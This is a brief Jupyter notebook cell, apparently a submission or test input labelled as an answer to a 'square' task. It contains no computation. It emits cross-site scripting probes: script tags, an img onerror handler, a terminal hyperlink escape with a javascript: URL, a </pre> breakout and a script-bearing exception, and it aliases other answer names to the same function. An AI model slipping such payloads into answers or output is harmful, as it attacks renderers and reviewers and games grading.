# %% answer square
from IPython.display import HTML, Javascript, display
display(HTML("<script>alert(1)</script><img src=x onerror=alert(1)>"), Javascript("alert(1)"))
print("\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07", "</pre><script>alert(1)</script>")
class Markup(Exception): pass
def square(x): raise Markup("<script>alert(1)</script>")
words = total = primes = square
